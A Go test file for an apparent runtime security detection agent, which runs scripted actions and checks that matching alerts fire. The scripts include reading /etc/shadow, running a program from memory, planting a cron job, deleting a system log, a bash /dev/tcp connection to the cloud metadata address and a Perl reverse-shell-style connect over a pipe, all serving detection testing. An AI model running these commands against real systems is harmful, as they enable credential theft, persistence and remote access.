package live

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/goshawk-security/goshawk/internal/alert"
)

// extraRules ask for one file by name, whatever a program calls it.
const extraRules = `
- rule: Test file opened
  desc: The file was opened.
  condition: evt.type in (open, openat, openat2, creat) and fd.name = %[1]s/secret
  output: opened %%fd.name (form=%%fd.name.form given=%%fd.nameraw res=%%evt.res command=%%proc.cmdline)
  priority: Notice
- rule: Test file missed
  desc: A file that is not there was opened.
  condition: evt.type in (open, openat, openat2) and evt.failed = true and fd.name = %[1]s/missing
  output: missed %%fd.name (provenance=%%fd.name.provenance res=%%evt.res command=%%proc.cmdline)
  priority: Notice
`

// deeds are what programs do and the alert that must come of it. $D is a folder
// with a file named secret.
var deeds = []struct {
	name   string
	script string
	rule   string
	fields map[string]string // $D is replaced; a value that begins with ~ need only be contained
}{
	{
		name:   "symbolic link",
		script: `ln -s secret $D/link; cat $D/link`,
		rule:   "Test file opened",
		fields: map[string]string{"fd.name": "$D/secret", "fd.name.form": "resolved", "fd.nameraw": "$D/link"},
	},
	{
		name:   "bind mount",
		script: `mkdir $D/b; unshare -m sh -c "mount --bind $D $D/b; cat $D/b/secret"`,
		rule:   "Test file opened",
		fields: map[string]string{"fd.name": "$D/secret", "fd.name.form": "origin", "fd.nameraw": "$D/b/secret"},
	},
	{
		name:   "chroot",
		script: `perl -e 'chroot $ENV{D} or die; open F, "<", "/secret" or die'`,
		rule:   "Test file opened",
		fields: map[string]string{"fd.name": "$D/secret", "fd.nameraw": "/secret"},
	},
	{
		name:   "working directory",
		script: `cd $D/; cat ./secret`,
		rule:   "Test file opened",
		fields: map[string]string{"fd.name": "$D/secret", "fd.nameraw": "./secret"},
	},
	{
		name:   "directory descriptor",
		script: `perl -e 'opendir D, $ENV{D} or die; my $n = "secret"; syscall(` + sysOpenat + `, fileno D, $n, 0) >= 0 or die'`,
		rule:   "Test file opened",
		fields: map[string]string{"fd.name": "$D/secret", "fd.nameraw": "secret"},
	},
	{
		name:   "failed open",
		script: `cd $D; cat x/../missing || true`,
		rule:   "Test file missed",
		fields: map[string]string{"fd.name": "$D/missing", "fd.name.provenance": "dir+given", "evt.res": "ENOENT"},
	},
	{
		name:   "failed open in a chroot",
		script: `perl -e 'chroot $ENV{D} or die; open F, "<", "/missing"' || true`,
		rule:   "Test file missed",
		fields: map[string]string{"fd.name": "$D/missing"},
	},
	{
		name:   "sensitive file",
		script: `cat /etc/shadow >/dev/null`,
		rule:   "Password hashes read",
		fields: map[string]string{"fd.name": "/etc/shadow", "proc.cmdline": "cat /etc/shadow", "proc.exepath": "/usr/bin/cat", "user.name": "root", "container.id": "host"},
	},
	{
		name:   "shell of a server",
		script: `cp /usr/bin/perl $D/nginx; $D/nginx -e 'system("echo; true")'`,
		rule:   "Server starts a shell",
		fields: map[string]string{"proc.pname": "nginx", "proc.cmdline": "sh -c echo; true"},
	},
	{
		name:   "program in memory",
		script: `perl -e 'my $n = "x"; my $fd = syscall(` + sysMemfdCreate + `, $n, 0); open F, ">&=", $fd; binmode F; open T, "<", "/usr/bin/true"; local $/; print F <T>; F->flush; exec "/proc/$$/fd/$fd"'`,
		rule:   "Program run from memory",
		fields: map[string]string{"proc.exepath": "/memfd:x"},
	},
	{
		name:   "setuid bit",
		script: `cp /bin/true $D/t; chmod u+s $D/t`,
		rule:   "Setuid bit set",
		fields: map[string]string{"proc.cmdline": "chmod u+s $D/t"},
	},
	{
		name:   "scheduled job",
		script: `unshare -m sh -c 'mount -t tmpfs none /etc/cron.d && echo > /etc/cron.d/job' || true`,
		rule:   "Scheduled job added",
		fields: map[string]string{"proc.cmdline": "~/etc/cron.d/job"},
	},
	{
		name: "scheduled job by way of a linked directory",
		script: `ln -s /etc $D/l; unshare -m sh -c 'mount -t tmpfs none /etc/cron.d && echo > /etc/cron.d/.b && mv $D/l/cron.d/.b $D/l/cron.d/zz
			sleep 1' || true`,
		rule:   "Scheduled job added",
		fields: map[string]string{"proc.name": "mv"}, // its own words name no place of cron
	},
	{
		name:   "log removed by way of a linked directory",
		script: `ln -s /var/log $D/v; unshare -m sh -c 'mount -t tmpfs none /var/log && : > /var/log/syslog && rm $D/v/syslog; sleep 1' || true`,
		rule:   "System log destroyed",
		fields: map[string]string{"proc.name": "rm"},
	},
	{
		name: "connection of a shell",
		script: `unshare -n bash -c 'ip link set lo up; ip addr add 169.254.169.254/32 dev lo
			(exec 3<>/dev/tcp/169.254.169.254/80)' || true`,
		rule:   "Shell opens a network connection",
		fields: map[string]string{"fd.name": "~->169.254.169.254:80", "evt.res": "ECONNREFUSED"},
	},
	{
		name: "reverse shell over a pipe",
		script: `cp /usr/bin/perl $D/nc; mkfifo $D/f; sleep 2 >$D/f & unshare -n sh -c 'ip link set lo up; ip addr add 192.0.2.1/32 dev lo
			$D/nc -e "use Socket; socket S, PF_INET, SOCK_STREAM, 0; connect S, sockaddr_in(4444, inet_aton(q(192.0.2.1)))" <$D/f' || true`,
		rule:   "Network tool relays through a pipe",
		fields: map[string]string{"fd.name": "~->192.0.2.1:4444"},
	},
}

// TestDeeds does all deeds under one agent and looks for each one's alert.
func TestDeeds(t *testing.T) {
	dir, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	folders := make([]string, len(deeds))
	var rules strings.Builder
	for i := range deeds {
		folders[i] = filepath.Join(dir, fmt.Sprint("deed", i))
		if err := os.Mkdir(folders[i], 0o755); err != nil {
			t.Fatal(err)
		}
		write(t, filepath.Join(folders[i], "secret"), "x")
	}
	// One pair of rules for each folder, told apart by their names.
	for i := range deeds {
		text := fmt.Sprintf(extraRules, folders[i])
		text = strings.ReplaceAll(text, "opened\n", fmt.Sprintf("opened %d\n", i))
		rules.WriteString(strings.ReplaceAll(text, "missed\n", fmt.Sprintf("missed %d\n", i)))
	}
	a := start(t, rules.String())
	for i, d := range deeds {
		shell(t, folders[i], d.script)
	}
	alerts := a.stop(t)

	for i, d := range deeds {
		t.Run(d.name, func(t *testing.T) {
			rule := d.rule
			if strings.HasPrefix(rule, "Test file") {
				rule = fmt.Sprint(rule, " ", i)
			}
			want := map[string]string{}
			for name, value := range d.fields {
				want[name] = strings.ReplaceAll(value, "$D", folders[i])
			}
			got := findAlert(t, alerts, rule, want)
			if got == nil {
				return
			}
			checkStory(t, got)
		})
	}
	ids := map[string]bool{}
	for _, a := range alerts {
		if ids[a.ID] {
			t.Errorf("id %s twice", a.ID)
		}
		ids[a.ID] = true
	}
}

// findAlert returns the alert of a rule with these output fields.
func findAlert(t *testing.T, alerts []alert.Alert, rule string, want map[string]string) *alert.Alert {
	t.Helper()
	for i := range alerts {
		if a := &alerts[i]; a.Rule == rule && hasFields(a, want) {
			return a
		}
	}
	t.Errorf("no alert of rule %q with %v", rule, want)
	for _, a := range alerts {
		if a.Rule == rule {
			t.Logf("there is: %s %v", a.Output, a.OutputFields)
		}
	}
	return nil
}

func hasFields(a *alert.Alert, want map[string]string) bool {
	for name, value := range want {
		got := fmt.Sprint(a.OutputFields[name])
		if part, contained := strings.CutPrefix(value, "~"); contained {
			if !strings.Contains(got, part) {
				return false
			}
		} else if got != value {
			return false
		}
	}
	return true
}

// checkStory checks what an analyst needs beside the fields.
func checkStory(t *testing.T, a *alert.Alert) {
	t.Helper()
	if a.Hostname == "" || a.Time.IsZero() || a.Source != "syscall" || a.Fingerprint == "" || a.RuleFile == "" {
		t.Errorf("incomplete: %+v", a)
	}
	if len(a.Lineage) < 2 || len(a.Conditions) == 0 {
		t.Errorf("lineage %v, conditions %v", a.Lineage, a.Conditions)
	}
	if !slices.ContainsFunc(a.Lineage, func(p alert.Ancestor) bool { return p.Name == "live.test" }) {
		t.Errorf("the test that started it is not in the lineage %v", a.Lineage)
	}
}
